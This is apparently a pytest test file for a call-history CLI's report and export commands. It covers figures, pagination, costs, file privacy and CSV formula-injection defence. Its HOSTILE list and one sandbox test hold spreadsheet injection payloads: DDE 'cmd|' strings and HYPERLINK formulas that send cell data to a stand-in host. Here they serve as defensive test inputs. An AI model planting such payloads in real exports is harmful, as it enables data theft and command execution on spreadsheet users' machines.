"""`topcalls report` and `export`: figures that agree with the calls, costs, pages, and cells that stay text."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import stat
import subprocess
import sys
from collections import Counter
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import httpx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as some

from topcalls_tools import AsyncClient, Client, ListCalls, ListLeads
from topcalls_tools.api.calls import CallInList
from topcalls_tools.cli import history
from topcalls_tools.cli.cells import safe, written
from topcalls_tools.cli.span import Span, span
from topcalls_tools.cli.tally import Tally, bars, tallied
from topcalls_tools.connect import Line
from topcalls_tools.deeds.outcomes import CASES
from topcalls_tools.wire import moment

from .conftest import World, owner
from .test_cli import keyed, run

__all__ = ["keyed"]
FORMULAS = ("=", "+", "-", "@", "−", "＝", "＋", "－", "＠", "﹢", "﹣", "﹦", "﹫")
HOSTILE = (
    '=HYPERLINK("https://evil.example","Refund")',
    "+1-2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r\n=1+1",
    "  =1+1",
    '"=1+1',
    'yes;=1+1;"',
    'well ; ""=1+1',
    "one|=1+1",
    "one, two,=1+1",
    "−1+1",
    "﹦1+1",
    "＝1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "+14155550123;=1+1",
    "+14155550123\n=1+1",
)


def known(world: World) -> list[dict[str, Any]]:
    """Every call of the sandbox, as it tells them itself."""
    found: list[dict[str, Any]] = []
    cursor = ""
    while cursor is not None:
        page = world.get(f"/v1/calls?limit=200{cursor and '&cursor=' + cursor}")
        found += page["data"]
        cursor = page["next_cursor"]
    return found


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def world_of_calls(keyed: World, monkeypatch: pytest.MonkeyPatch) -> World:
    """A sandbox in which much was called and all has ended, and pages of seven calls."""
    for number in ("0001", "0002", "0003", "0123", "0105"):
        task = "Ask when they open on Sunday."
        assert run("place-call", "--phone-number", f"+1415555{number}", "--task", task).exit_code == 0
    keyed.advance(3600)
    for campaign in keyed.get("/v1/campaigns?status=running")["data"]:
        keyed._http.post(f"/v1/campaigns/{campaign['id']}/pause").raise_for_status()
    keyed.advance(3600)
    monkeypatch.setattr(history, "ROWS", 7)
    return keyed


def test_the_figures_of_a_report_are_those_of_the_calls(world_of_calls: World) -> None:
    calls = known(world_of_calls)
    told = json.loads(run("report", "--since", "2000-01-01", "--json").stdout)
    assert told["live"] is False
    assert told["calls"] == len(calls) > 7
    assert told["minutes"] == pytest.approx(sum(call["actual_duration_billed"] or 0 for call in calls))
    ends = Counter(call["call_status"] for call in calls)
    outcomes = {one["outcome"]: one for one in told["outcomes"]}
    for end in ("busy", "no-answer", "rejected"):
        assert outcomes[end]["calls"] == ends[end] > 0
        assert outcomes[end]["why"] == CASES[end].why
        assert outcomes[end]["failed"] is True
    assert (
        sum(one["calls"] for one in told["outcomes"])
        == sum(one["calls"] for one in told["days"])
        == len(calls)
    )
    failed = {call["id"] for call in calls if call["status"] == "failed"}
    assert {one["id"] for one in told["failures"]} == failed
    assert "cost" not in told
    cells = rows(run("report", "--since", "2000-01-01", "--csv").stdout)
    assert sum(int(row["calls"]) for row in cells) == len(calls)
    assert {row["why"] for row in cells if row["outcome"] == "busy"} == {"The line was busy."}


def test_a_report_says_in_words_why_calls_failed_and_shows_each(world_of_calls: World) -> None:
    done = run("report", "--since", "2000-01-01")
    assert done.stdout.startswith("Practice: no phone rang.\n")
    for end, words in (("no-answer", "Nobody answered."), ("busy", "The line was busy.")):
        failed = [call for call in known(world_of_calls) if call["call_status"] == end]
        reason = failed[0]["error_message"]
        head = f'{words} TopCalls says "{reason}". {len(failed)} call'
        listed = done.stdout.partition(head)[2].partition("\n\n")[0]
        assert [call["id"] in listed for call in failed[:10]] == [True] * len(failed[:10])


def test_costs_are_told_where_the_policy_has_a_price(world_of_calls: World, home: Path) -> None:
    owner(home, 'price_per_minute = 0.25\ncurrency = "EUR"')
    told = json.loads(run("report", "--since", "2000-01-01", "--json").stdout)
    assert (told["currency"], told["cost"]) == ("EUR", pytest.approx(told["minutes"] / 4, abs=0.005))
    assert "cost, EUR" in run("report", "--since", "2000-01-01").stdout
    cells = rows(run("report", "--since", "2000-01-01", "--csv").stdout)
    assert {row["currency"] for row in cells} == {"EUR"}
    assert sum(float(row["cost"]) for row in cells) == pytest.approx(told["cost"], abs=0.2)


def test_a_policy_that_cannot_be_read_keeps_no_report_from_its_figures(
    world_of_calls: World, home: Path
) -> None:
    (home / "policy.toml").write_text("price_per_minute = [\n")
    done = run("report", "--since", "2000-01-01", "--json")
    assert done.exit_code == 0
    assert "Costs are left out: " in done.stderr
    assert json.loads(done.stdout)["calls"] == len(known(world_of_calls))


def test_a_span_takes_what_was_placed_in_it_alone(world_of_calls: World) -> None:
    calls = sorted(known(world_of_calls), key=lambda call: str(call["created_at"]))
    first, last = calls[4]["created_at"], calls[-4]["created_at"]
    done = run("export", "--since", first, "--until", last, "--json")
    since, until = (datetime.fromisoformat(at).replace(microsecond=0) for at in (first, last))
    wanted = {one["id"] for one in calls if since <= datetime.fromisoformat(one["created_at"]) < until}
    assert {one["id"] for one in json.loads(done.stdout)["data"]} == wanted != set()
    assert (
        json.loads(run("report", "--until", "2000-01-01", "--since", "1999-01-01", "--json").stdout)["calls"]
        == 0
    )
    refused = run("report", "--since", "soon")
    assert (refused.exit_code, "is no time that is known here" in refused.stderr) == (2, True)


class Counted(httpx.HTTPTransport):
    """Counts the requests that go out."""

    def __init__(self) -> None:
        super().__init__()
        self.paths: list[str] = []

    def handle_request(self, request: httpx.Request) -> httpx.Response:
        self.paths.append(request.url.path)
        return super().handle_request(request)


def test_what_is_older_than_the_span_is_not_fetched(world_of_calls: World, line: Line) -> None:
    calls, sent = known(world_of_calls), Counted()
    with Client(line=line, transport=sent) as client:
        newest = datetime.fromisoformat(calls[4]["created_at"])
        found = list(history.calls(client, Span(since=newest)))
        assert [call.id for call in found] == [call["id"] for call in calls[:5]]
        assert len(sent.paths) == 1
        sent.paths.clear()
        assert len(list(history.calls(client, Span()))) == len(calls)
        # a page begins with the last row of the one before
        assert len(sent.paths) == -(-(len(calls) - 1) // 6)


def test_an_export_has_every_call_once_with_all_that_is_told_of_it(world_of_calls: World) -> None:
    calls = {call["id"]: call for call in known(world_of_calls)}
    done = run("export", "--csv", "--transcripts")
    assert done.exit_code == 0
    assert "Practice: no phone rang." in done.stderr
    found = rows(done.stdout)
    assert Counter(row["id"] for row in found) == Counter(list(calls))
    for row in found:
        call = calls[row["id"]]
        assert row["phone_number"] == call["phone_number"]
        assert row["why"] == CASES[row["outcome"]].why
        assert float(row["duration"]) == call["duration"]
        said = [(turn["turn"], turn["text"]) for turn in json.loads(row["transcript"])]
        assert said == [(turn["id"], turn["text"]) for turn in call["transcript"]]
    told = json.loads(run("export", "--json").stdout)
    assert (told["live"], {one["id"] for one in told["data"]}) == (False, calls.keys())
    assert not any("transcript" in one for one in told["data"])


def listing(moments: list[str], limit: int) -> httpx.MockTransport:
    """A TopCalls that has calls of these moments, newest first, and pages as it is documented: what is on a
    page is strictly older than the cursor."""
    calls = [{"id": f"c{place}", "created_at": at} for place, at in enumerate(moments)]

    def answer(request: httpx.Request) -> httpx.Response:
        before = request.url.params.get("cursor", "9999")
        older = [call for call in calls if call["created_at"] < before]
        more = len(older) > limit
        cursor = older[limit - 1]["created_at"] if more else None
        return httpx.Response(200, json={"data": older[:limit], "next_cursor": cursor})

    return httpx.MockTransport(answer)


def minute(number: int) -> str:
    return f"2026-11-20T10:{number:02}:00Z"


@pytest.mark.parametrize("driver", ["sync", "async"])
@pytest.mark.parametrize(
    ("moments", "limit"),
    [
        ([minute(9), minute(8), minute(8), minute(7), minute(7)], 3),
        ([minute(9), minute(9), minute(9), minute(8), minute(8), minute(8)], 4),
        ([minute(9), minute(8), minute(7)], 1),
    ],
)
async def test_calls_of_one_moment_that_a_page_cuts_apart_all_come_once(
    line: Line, moments: list[str], limit: int, driver: str
) -> None:
    client = Client(line=line, transport=listing(moments, limit))
    if driver == "sync":
        found = [call.id for page in client.pages(ListCalls(limit=limit)) for call in page.data]
    else:
        twin = AsyncClient(line=line, transport=listing(moments, limit))
        found = [call.id async for page in twin.pages(ListCalls(limit=limit)) for call in page.data]
    assert found == [f"c{place}" for place in range(len(moments))]


@pytest.mark.parametrize(
    "cursors", [(minute(9), minute(8), minute(9)), ("", "", ""), (minute(8), minute(9), minute(8))]
)
def test_pages_that_go_in_a_circle_come_to_an_end(line: Line, cursors: tuple[str, ...]) -> None:
    turns = iter(range(20))

    def answer(request: httpx.Request) -> httpx.Response:
        place = next(turns)
        data = [{"id": f"c{place % 2}{one}"} for one in range(2)]
        return httpx.Response(200, json={"data": data, "next_cursor": cursors[place % len(cursors)]})

    pages = list(Client(line=line, transport=httpx.MockTransport(answer)).pages(ListCalls()))
    assert 1 <= len(pages) <= 4
    assert not any(page.cut for page in pages)


@pytest.mark.parametrize("cursor", ["12340712", "20251222", "abc", "2025-12-22T10:29:00Z"])
def test_a_cursor_of_leads_is_given_back_as_it_came(line: Line, cursor: str) -> None:
    asked: list[str | None] = []

    def answer(request: httpx.Request) -> httpx.Response:
        asked.append(request.url.params.get("cursor"))
        last = asked[-1] is not None
        items = [{"id": f"l{len(asked)}{one}"} for one in range(2)]
        return httpx.Response(
            200, json={"items": items, "has_more": not last, "next_cursor": None if last else cursor}
        )

    pages = list(Client(line=line, transport=httpx.MockTransport(answer)).pages(ListLeads()))
    assert asked == [None, cursor]
    assert not any(page.cut for page in pages)


def test_more_calls_of_one_moment_than_a_page_has_are_told(
    line: Line, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Also where the page before had some of them already, and not where the others are no part of the span."""
    monkeypatch.setattr(history, "ROWS", 3)
    calls = [minute(9), *3 * [minute(8)], minute(8), minute(7)]
    client = Client(line=line, transport=listing(calls, 3))
    assert [call.id for call in history.calls(client, Span(None, None))] == ["c0", "c1", "c2", "c3", "c5"]
    said = capsys.readouterr().err
    assert said.count("TopCalls may have more calls of 2026-11-20T10:08:00") == said.count("\n") == 1
    assert [call.id for call in history.calls(client, Span(moment(minute(9)), None))] == ["c0"]
    assert capsys.readouterr().err == ""


async def test_a_page_that_cannot_hold_all_of_its_moment_says_so(line: Line) -> None:
    calls = [minute(9), *4 * [minute(8)], minute(7)]
    pages = Client(line=line, transport=listing(calls, 3)).pages(ListCalls(limit=3))
    assert [page.cut for page in pages] == [False, True, False]
    twin = AsyncClient(line=line, transport=listing(calls, 3))
    assert [page.cut async for page in twin.pages(ListCalls(limit=3))] == [False, True, False]
    from_the_first = Client(line=line, transport=listing(calls[1:], 3)).pages(ListCalls(limit=3))
    assert [(len(page.data), page.cut) for page in from_the_first] == [(3, False), (0, True), (1, False)]
    whole = Client(line=line, transport=listing(calls, 6)).pages(ListCalls(limit=6))
    assert [page.cut for page in whole] == [False]


def test_an_export_goes_to_a_file_that_is_there_whole_and_private(
    world_of_calls: World, tmp_path: Path
) -> None:
    path = tmp_path / "calls.csv"
    assert run("export", "-o", str(path)).exit_code == 0
    assert path.read_text() == run("export").stdout
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    before = path.read_bytes()
    refused = run("export", "-o", str(path))
    assert (refused.exit_code, "--force" in refused.stderr) == (6, True)
    world_of_calls._http.post(
        "/sandbox/faults", json={"route": "GET /v1/calls", "kind": "rate_limited", "every": 2, "seconds": 90}
    ).raise_for_status()
    cut = run("export", "-o", str(path), "--force")
    assert cut.exit_code == 4, cut.output
    assert (path.read_bytes(), os.listdir(tmp_path).count("calls.csv")) == (before, 1)
    assert not [name for name in os.listdir(tmp_path) if name.endswith(".part")]


def cells_of(text: str, separator: str) -> list[str]:
    """The cells that a spreadsheet sees which parts them by this sign."""
    return [cell for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row]


def computed(cell: str) -> bool:
    """Whether a spreadsheet would compute something from it."""
    text = cell.strip(' \t\r\n"\ufeff\u200b\u00a0')
    return text.startswith(FORMULAS) and not re.fullmatch(r"\+[1-9][0-9]{1,14}", text)


@pytest.mark.parametrize("words", HOSTILE)
@pytest.mark.parametrize("separator", [",", ";", "|", "\t"])
def test_no_cell_is_a_formula_whoever_spoke_its_words(words: str, separator: str) -> None:
    text = "".join(written([["id", words, 1.5, "+14155550123", words]]))
    assert computed(words) or any(map(computed, re.split(r"[,;|\n]", words)))
    assert not any(map(computed, cells_of(text, separator)))


@settings(max_examples=500, deadline=None)
@given(words=some.text(some.sampled_from("=+-@;|\"',\t\r\n \u00a0\u200b＝a1\\"), max_size=12))
def test_no_text_at_all_becomes_a_formula(words: str) -> None:
    for separator in ",;|\t":
        assert not any(map(computed, cells_of("".join(written([["id", words, "x", words]])), separator)))
    assert not any(map(computed, safe(words).split(",")))


def test_what_no_spreadsheet_computes_stays_as_it_is() -> None:
    for text in ("Booked for 4 p.m.", "+14155550123", "a - b = c", "it's 5-7; maybe 8", '{"text": "x"}', ""):
        assert safe(text) == text


def test_words_of_a_stranger_reach_a_spreadsheet_as_text(keyed: World) -> None:
    number, words = "+14155550177", '=HYPERLINK("https://evil.example?"&A1,"Error")'
    post = keyed._http.post
    post("/sandbox/claims", json={"number": number}).raise_for_status()
    placed = json.loads(
        run("place-call", "--phone-number", number, "--task", "Ask for the hours.", "--json").stdout
    )
    keyed.advance(10)
    for deed in ({}, {"words": words}, {}):
        step = (
            "say"
            if deed
            else "pick_up"
            if keyed.get(f"/v1/calls/{placed['call_id']}")["status"] == "queued"
            else "hang_up"
        )
        post(f"/sandbox/calls/{placed['call_id']}/{step}", json=deed).raise_for_status()
        keyed.advance(20)
    said = [turn["text"] for turn in keyed.get(f"/v1/calls/{placed['call_id']}")["transcript"]]
    assert words in said
    text = run("export", "--csv", "--transcripts").stdout
    assert "HYPERLINK" in text
    for separator in ",;|\t":
        assert not any(map(computed, cells_of(text, separator)))


def call(at: str, **facts: Any) -> CallInList:
    return CallInList.model_validate({"id": at, "created_at": at, "status": "completed", **facts})


def test_days_and_hours_are_those_of_the_place(monkeypatch: pytest.MonkeyPatch) -> None:
    from zoneinfo import ZoneInfo

    tokyo = ZoneInfo("Asia/Tokyo")
    calls = [call("2026-11-30T14:30:00Z"), call("2026-11-30T15:30:00Z"), call("2026-11-30T17:30:00Z")]
    tally = tallied(calls, Tally(Span(zone=tokyo)))
    assert set(tally.days) == {date(2026, 11, 30), date(2026, 12, 1)}
    one_day = tallied(calls[1:], Tally(Span(zone=tokyo)))
    assert bars(one_day) == {"00:00": 1, "01:00": 0, "02:00": 1}


@pytest.mark.parametrize(
    ("since", "names"),
    [
        ("2026-11-27", ["Fri 2026-11-27", "Sat 2026-11-28", "Sun 2026-11-29", "Mon 2026-11-30"]),
        ("2026-10-20", ["week of 2026-10-19", "week of 2026-10-26"]),
        ("2026-01-15", ["2026-01", "2026-02"]),
        ("2020-01-15", ["2020", "2021"]),
    ],
)
def test_a_chart_counts_by_the_finest_unit_that_it_has_room_for_and_leaves_no_gap(
    since: str, names: list[str]
) -> None:
    tally = tallied([call("2026-11-30T12:00:00Z"), call(f"{since}T12:00:00Z")], Tally(Span(zone=UTC)))
    counts = bars(tally)
    assert list(counts)[: len(names)] == names
    assert (len(counts) <= 31, sum(counts.values()), min(counts.values())) == (True, 2, 0)


def test_calls_of_which_no_minutes_are_told_are_counted_and_said(keyed: World) -> None:
    ended = {"answered_by": "human", "started_at": "2026-11-30T12:00:00Z", "end_at": "2026-11-30T12:02:00Z"}
    tally = tallied(
        [call("2026-11-30T12:00:00Z", **ended), call("2026-11-30T13:00:00Z", duration=2)], Tally(Span())
    )
    assert (tally.untold, tally.total.minutes, tally.total.calls) == (1, 2.0, 2)


def test_a_call_whose_time_cannot_be_read_is_counted_once() -> None:
    tally = tallied([CallInList(id="x", status="queued")], Tally(Span()))
    assert (tally.total.calls, dict(tally.days), dict(bars(tally))) == (1, {}, {})


def test_a_pipe_that_ends_early_ends_the_export_without_a_word(world_of_calls: World) -> None:
    command = [sys.executable, "-m", "topcalls_tools.cli", "export", "--transcripts"]
    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as process:
        assert process.stdout
        assert process.stderr
        assert process.stdout.readline().startswith(b"id,")
        process.stdout.close()
        assert b"Traceback" not in process.stderr.read()


def test_the_form_is_one_and_the_campaign_an_id(keyed: World) -> None:
    for command in ("report", "export"):
        assert run(command, "--csv", "--json").exit_code == 2
        refused = run(command, "--campaign-id", "../calls")
        assert (refused.exit_code, "campaign_id" in refused.stderr) == (2, True)
    campaigns = [one for one in keyed.get("/v1/campaigns")["data"] if one["status"] == "running"]
    mine = json.loads(run("export", "--json", "--campaign-id", campaigns[0]["id"]).stdout)["data"]
    assert {one["campaign_id"] for one in mine} <= {campaigns[0]["id"]}


def test_a_report_of_today_is_the_default(keyed: World) -> None:
    now = datetime.now(UTC)
    told = json.loads(run("report", "--json").stdout)
    assert datetime.fromisoformat(told["since"]) in {
        span("today", None, now).since,
        span("today", None, datetime.now(UTC)).since,
    }
